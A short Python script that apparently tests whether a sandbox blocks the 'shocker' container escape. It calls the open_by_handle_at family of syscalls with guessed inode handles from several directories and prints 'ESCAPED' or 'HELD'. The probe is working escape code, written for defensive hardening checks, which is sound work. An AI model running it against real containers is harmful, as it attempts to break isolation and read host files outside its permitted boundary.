# class: fs | kind: self
# expect: name_to_handle_at/open_by_handle_at (shocker) denied
import ctypes, os, struct
L = ctypes.CDLL(None, use_errno=True); hit = []; why = set()
def sc(n, *a):
    ctypes.set_errno(0)
    r = L.syscall(ctypes.c_long(n), *[ctypes.c_long(x) if isinstance(x, int) else x for x in a])
    return r, ctypes.get_errno()
for anchor in ('/mnt/data', '/tmp', '/usr', '/etc', '/dev/shm', '.'):
    try: fd = os.open(anchor, os.O_RDONLY)
    except OSError: continue
    handles = [struct.pack('<Ii', 8, 1) + struct.pack('<II', ino, 0) for ino in (2, 1, 128, 256)]
    h = ctypes.create_string_buffer(struct.pack('<Ii', 128, 0) + bytes(128)); m = ctypes.c_int()
    r, e = sc(303, fd, ctypes.create_string_buffer(b''), h, ctypes.byref(m), 0x1000)
    if r == 0: handles.append(h.raw)
    for raw in handles:
        r, e = sc(304, fd, ctypes.create_string_buffer(raw), os.O_RDONLY); why.add(os.strerror(e) if r < 0 else 'opened')
        if r >= 0: hit.append('%s: %s' % (anchor, os.listdir(r)[:4] if os.path.isdir('/proc/self/fd/%d' % r) else r)); os.close(r)
    os.close(fd)
print('ESCAPED: opened by handle ' + ' '.join(hit) if hit else 'HELD: %s' % sorted(why))
